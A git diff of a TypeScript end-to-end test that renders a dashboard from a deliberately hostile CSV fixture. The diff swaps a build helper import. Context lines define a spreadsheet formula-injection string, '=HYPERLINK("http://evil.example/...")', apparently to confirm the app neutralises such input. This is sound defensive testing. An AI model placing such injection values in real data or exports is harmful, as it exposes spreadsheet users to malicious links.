@@ -10,7 +10,6 @@ import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { collectCommand, exportCommand } from '../../bin/commands.ts';
 import { createApp } from '../../dashboard/app.ts';
-import { buildWeb } from '../../dashboard/build.ts';
 import { VIEW_PATHS } from '../../dashboard/routes/page.ts';
 import { Database } from '../../db/connection.ts';
 import { publishedPath } from '../../db/publish.ts';
@@ -21,7 +20,7 @@ import { silentLogger } from '../../lib/log.ts';
 import { browserContext } from '../support/browser.ts';
 import { startReplayServer, type ReplayServer } from '../support/replay/server.ts';
 import { tempDir } from '../support/tmp.ts';
-import { serve } from './serve.ts';
+import { serve, webBundle } from './serve.ts';
 
 const ARCHIVE = path.resolve(import.meta.dirname, '../fixtures/openrouter/rankings-hostile.synthetic.csv');
 const FORMULA = '=HYPERLINK("http://evil.example/?q=1","click")';
@@ -69,7 +68,7 @@ beforeAll(async () => {
   ).toBe(0);
   expect(lines.filter((l) => / succeeded/.test(l))).toHaveLength(2);
   db = await Database.open(publishedPath(dir.dir), { readOnly: true });
-  const bundle = buildWeb();
+  const bundle = webBundle();
   [site, browser] = await Promise.all([serve(createApp({ db, config, bundle: () => bundle })), browserContext()]);
   page = await browser.context.newPage();
   page.on('dialog', (dialog) => {
